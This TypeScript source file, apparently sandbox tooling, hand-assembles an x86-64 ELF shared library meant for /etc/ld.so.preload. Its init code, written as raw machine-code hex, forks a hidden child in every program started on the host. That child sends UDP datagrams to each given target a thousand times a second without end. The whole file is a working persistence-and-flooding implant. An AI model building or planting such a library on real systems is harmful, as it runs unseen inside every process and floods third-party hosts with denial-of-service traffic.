/**
 * A shared library that runs before the first instruction of any program which is loaded with it (/etc/ld.so.preload): it forks, and the child
 * sends a datagram to each target a thousand times a second for ever. No compiler is at hand in the sandbox or here, so: a minimal ELF file
 * whose DT_INIT is machine code. x86-64 only.
 */
export function hostileLibrary(targets: readonly { address: string; port: number }[]): Buffer {
  const code = program(targets);
  const strings = Buffer.alloc(8); // one empty name
  const symbols = Buffer.alloc(24); // none but the null symbol
  const codeAt = headersSize;
  const stringsAt = align(codeAt + code.length);
  const symbolsAt = align(stringsAt + strings.length);
  const dynamicAt = align(symbolsAt + symbols.length);
  const dynamic = quads([12, codeAt, 5, stringsAt, 6, symbolsAt, 10, strings.length, 11, symbols.length, 0, 0]);
  const size = dynamicAt + dynamic.length;
  const file = Buffer.alloc(size);
  elfHeader().copy(file, 0);
  segment({ type: 1, flags: 7, at: 0, size }).copy(file, elfHeaderSize); // PT_LOAD
  segment({ type: 2, flags: 6, at: dynamicAt, size: dynamic.length }).copy(file, elfHeaderSize + segmentSize); // PT_DYNAMIC
  segment({ type: 0x6474e551, flags: 6, at: 0, size: 0 }).copy(file, elfHeaderSize + 2 * segmentSize); // PT_GNU_STACK
  code.copy(file, codeAt);
  strings.copy(file, stringsAt);
  symbols.copy(file, symbolsAt);
  dynamic.copy(file, dynamicAt);
  return file;
}

const elfHeaderSize = 64;
const segmentSize = 56;
const headersSize = elfHeaderSize + 3 * segmentSize;
const align = (offset: number): number => Math.ceil(offset / 16) * 16;

function quads(values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 8);
  values.forEach((value, at) => bytes.writeBigUInt64LE(BigInt(value), at * 8));
  return bytes;
}

function elfHeader(): Buffer {
  const header = Buffer.alloc(elfHeaderSize);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).copy(header); // 64 bits, little endian
  header.writeUInt16LE(3, 16); // a shared object
  header.writeUInt16LE(62, 18); // x86-64
  header.writeUInt32LE(1, 20);
  header.writeBigUInt64LE(BigInt(elfHeaderSize), 32);
  header.writeUInt16LE(elfHeaderSize, 52);
  header.writeUInt16LE(segmentSize, 54);
  header.writeUInt16LE(3, 56);
  header.writeUInt16LE(64, 58);
  return header;
}

function segment({ type, flags, at, size }: { type: number; flags: number; at: number; size: number }): Buffer {
  const header = Buffer.alloc(segmentSize);
  header.writeUInt32LE(type, 0);
  header.writeUInt32LE(flags, 4);
  quads([at, at, at, size, size, 4096]).copy(header, 8);
  return header;
}

/** fork(); in the child: socket(); for each target sendto(); poll() for a millisecond; and again. */
function program(targets: readonly { address: string; port: number }[]): Buffer {
  const parent = hex('b839000000 0f05 85c0 7401 c3'); // fork; the child goes on behind the return
  const open = [
    ...hex('bf02000000 be02080000 31d2'), // AF_INET, SOCK_DGRAM | SOCK_NONBLOCK
    ...hex('b829000000 0f05 89c3'), // socket; ebx = it
  ];
  const send = [
    ...hex('89df 4c89e6 ba04000000'), // the socket, four bytes of the address as the message
    ...hex('41ba40000000 4d89e0 41b910000000'), // MSG_DONTWAIT, the address
    ...hex('b82c000000 0f05 4983c410 ffcd'), // sendto; the next address
  ];
  const rest = hex('31ff 31f6 ba01000000 b807000000 0f05'); // poll(0, 0, 1)
  const first = [...hex('4c8d2500000000 bd'), targets.length, 0, 0, 0]; // r12 = the addresses, ebp = how many
  const loop = [...first, ...send, 0x75, -(send.length + 2) & 0xff, ...rest];
  const again = [0xeb, -(loop.length + 2) & 0xff];
  const code = Buffer.from([...parent, ...open, ...loop, ...again]);
  // Relative to the instruction after it.
  const leaEnd = parent.length + open.length + 7;
  code.writeInt32LE(code.length - leaEnd, leaEnd - 4);
  return Buffer.concat([code, ...targets.map(socketAddress)]);
}

const hex = (text: string): number[] => [...Buffer.from(text.replaceAll(' ', ''), 'hex')];

function socketAddress({ address, port }: { address: string; port: number }): Buffer {
  const bytes = Buffer.alloc(16);
  bytes.writeUInt16LE(2, 0);
  bytes.writeUInt16BE(port, 2);
  address.split('.').forEach((part, at) => bytes.writeUInt8(Number(part), 4 + at));
  return bytes;
}
